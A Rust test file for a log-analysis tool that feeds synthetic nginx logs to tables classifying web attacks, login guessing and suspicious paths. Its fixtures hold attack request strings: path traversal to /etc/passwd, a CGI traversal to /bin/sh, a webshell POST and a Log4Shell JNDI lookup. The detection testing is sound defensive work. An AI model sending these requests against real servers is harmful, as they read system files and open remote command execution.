use std::sync::Arc;

use stanch_machine::Pretend;
use stanch_words::{Ask, Row, Value};

use super::*;
use crate::Host;

/// Returns the rows of a table that logs make, each as the values of some columns.
fn table(name: &str, columns: &[&str], logs: &[(&'static str, String)]) -> Vec<Vec<String>> {
    let machine =
        logs.iter().fold(Pretend::new(), |machine, (path, text)| machine.file(path, text.as_str()));
    let host = Host::new(Arc::new(machine));
    let table = crate::tables::find(name).unwrap();
    let mut seen = Seen::default();
    (table.read)(&host, &Ask::all(), &mut seen);
    let at = |row: &Row, column: &str| match row.get(table.spec.position(column).unwrap()) {
        Value::Null => "-".to_owned(),
        value => value.to_string(),
    };
    seen.rows.iter().map(|row| columns.iter().map(|column| at(row, column)).collect()).collect()
}

fn line(second: i64, address: &str, request: &str, status: u16, bytes: i64) -> String {
    let (hour, minute, second) = (second / 3600, second / 60 % 60, second % 60);
    format!(
        "{address} - - [23/Nov/2026:{hour:02}:{minute:02}:{second:02} +0000] \"{request} HTTP/1.1\" {status} {bytes} \"-\" \"x\"\n"
    )
}

fn access(lines: impl Iterator<Item = String>) -> (&'static str, String) {
    ("/var/log/nginx/access.log", lines.collect())
}

#[test]
fn an_attack_is_compared_with_what_the_path_usually_gives() {
    let usual =
        (0..8).map(|at| line(at, "192.0.2.1", &format!("GET /view.php?id={at}"), 200, 1000 + at));
    let attacks = [
        line(20, "203.0.113.9", "GET /view.php?id=../../../etc/passwd", 200, 2900),
        line(21, "203.0.113.8", "GET /view.php?id=../../../etc/passwd", 200, 1003),
        line(22, "203.0.113.7", "GET /view.php?id=../../../etc/passwd", 404, 150),
    ];
    let rows = table(
        "web_attacks",
        &["class", "address", "status", "answer", "path"],
        &[access(usual.chain(attacks))],
    );
    assert_eq!(
        rows,
        [
            ["traversal", "203.0.113.7", "404", "-", ""],
            ["traversal", "203.0.113.8", "200", "usual", "/view.php"],
            ["traversal", "203.0.113.9", "200", "unusual", "/view.php"],
        ]
    );
}

#[test]
fn one_page_for_every_path_is_no_success() {
    let spa = ["/", "/a", "/b", "/c", "/.git/config", "/cgi-bin/.%2e/.%2e/bin/sh"];
    let lines = spa.iter().map(|path| line(1, "203.0.113.9", &format!("GET {path}"), 200, 612));
    let rows = table("web_attacks", &["class", "answer"], &[access(lines)]);
    assert_eq!(rows, [["command", "generic"], ["secret", "generic"]]);
}

#[test]
fn a_command_of_the_web_account_is_put_beside_the_attack_before_it() {
    let lines = [line(36_000, "203.0.113.9", "POST /cgi-bin/.%2e/%2e%2e/bin/sh", 200, 7)];
    let sudo = "2026-11-23T10:00:02+00:00 h sudo: www-data : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/id\n";
    let rows = table(
        "web_attacks",
        &["class", "deed_time"],
        &[access(lines.into_iter()), ("/var/log/none.log", sudo.to_owned())],
    );
    assert_eq!(rows, [["command", "-"]], "sudo alone is a privilege.use");
    let mut fold = Web::default();
    let mut attack = Event::new(EventKind::WebAbuse);
    attack.time = Some(1_000_000_000);
    attack.source_ip = "203.0.113.9".into();
    attack.with("url", "/x?cmd=id").with("status", 200).with("attack", "command");
    let source = Source::new("/a".into(), crate::history::Witness::Text);
    fold.event(&attack, &source);
    for (user, program, time) in [
        ("www-data", "CRON", 1_001),
        ("ann", "", 1_001),
        ("www-data", "", 1_002),
        ("www-data", "", 900),
    ] {
        let mut deed = Event::new(EventKind::ProcessStart);
        deed.time = Some(time * 1_000_000);
        deed.user = user.into();
        deed.program = program.into();
        deed.command = format!("{user} {time}").into();
        fold.event(&deed, &source);
    }
    let seen = fold.attacks.rows(&fold.paths);
    let spec = &crate::tables::web_attacks::SPEC;
    let command = seen.rows[0].get(spec.position("deed_command").unwrap());
    assert_eq!(command.to_string(), "www-data 1002");
}

#[test]
fn guessing_and_its_success_are_counted_by_address() {
    let failures = (0..30).map(|at| line(at, "203.0.113.9", "POST /wp-login.php", 200, 5364));
    let more = [
        line(40, "203.0.113.9", "POST /wp-login.php", 302, 0),
        line(50, "192.0.2.1", "POST /wp-login.php", 200, 5364),
        line(51, "192.0.2.1", "POST /wp-login.php", 302, 0),
        line(60, "192.0.2.2", "POST /wp-login.php", 302, 0),
    ];
    let rows = table(
        "web_clients",
        &["address", "failures", "failures_before"],
        &[access(failures.chain(more))],
    );
    assert_eq!(
        rows,
        [["192.0.2.1", "1", "1"], ["192.0.2.2", "0", "-"], ["203.0.113.9", "30", "30"]]
    );
}

#[test]
fn one_failure_told_by_two_logs_is_one() {
    let lines =
        (0..5).map(|at| line(at, "203.0.113.9", "GET /x", 401, 9).replacen("- - [", "- ann [", 1));
    let error: String = (0..5)
        .map(|at| format!("2026/11/23 00:00:0{at} [error] 1#1: *{at} user \"ann\": password mismatch, client: 203.0.113.9, server: s, request: \"GET /x HTTP/1.1\", host: \"h\"\n"))
        .collect();
    let rows = table(
        "web_clients",
        &["address", "failures", "users", "requests"],
        &[access(lines), ("/var/log/nginx/error.log", error)],
    );
    assert_eq!(rows, [["203.0.113.9", "5", "1", "5"]]);
}

#[test]
fn the_shape_of_traffic_to_a_path() {
    let visitors = (0..40).map(|at| {
        line(at, &format!("192.0.2.{at}"), "GET /index.php", 200, 900 + at)
            .replace("\"-\"", "\"https://s/\"")
    });
    let shell = (0..12).map(|at| {
        line(7200 + at, "203.0.113.9", "POST /wp-content/uploads/2026/x.php", 200, 40 + at * 90)
    });
    let rows = table(
        "web_paths",
        &["path", "is_script", "is_data_place", "post_percent", "referred_percent", "addresses"],
        &[access(visitors.chain(shell))],
    );
    assert_eq!(
        rows,
        [
            ["/index.php", "1", "0", "0", "100", "16"],
            ["/wp-content/uploads/2026/x.php", "1", "1", "100", "0", "1"],
        ]
    );
}

#[test]
fn what_a_script_was_sent_and_who_attacked_is_shown_by_lines() {
    let shell = (0..5).map(|second| line(second, "203.0.113.9", "POST /up/x.php", 200, 9));
    let other =
        [line(9, "192.0.2.1", "POST /form", 200, 9), line(10, "192.0.2.1", "GET /y.php", 200, 9)];
    let log = access(shell.chain(other));
    let numbers = |lines: &str| -> Vec<u64> {
        let lines: Vec<serde_json::Value> = serde_json::from_str(lines).unwrap();
        lines.iter().map(|line| line["line"].as_u64().unwrap()).collect()
    };
    let rows = table("web_paths", &["path", "lines"], &[log]);
    let told: Vec<_> = rows.iter().map(|row| (row[0].as_str(), numbers(&row[1]))).collect();
    assert_eq!(told, [("/form", vec![]), ("/up/x.php", vec![1, 2, 4]), ("/y.php", vec![])]);
    let attack = [line(1, "203.0.113.9", "GET /?x=%24%7Bjndi:ldap://a/b%7D", 404, 9)];
    let rows = table("web_clients", &["address", "lines"], &[access(attack.into_iter())]);
    assert_eq!((rows[0][0].as_str(), numbers(&rows[0][1])), ("203.0.113.9", vec![1]));
}

#[test]
fn a_flood_of_addresses_and_paths_is_capped_and_said() {
    let mut fold = Web::default();
    let source = Source::new("/a".into(), crate::history::Witness::Text);
    for at in 0..70_000 {
        let mut event = Event::new(EventKind::WebRequest);
        event.time = Some(at);
        event.source_ip = format!("2001:db8::{at:x}").into();
        event.with("url", format!("/{at}")).with("status", 200);
        fold.event(&event, &source);
    }
    let clients = fold.clients.rows();
    assert_eq!((clients.rows.len(), clients.gaps.len()), (40_000, 1));
    let paths = fold.paths.rows();
    assert_eq!((paths.rows.len(), paths.gaps.len()), (30_000, 1));
}
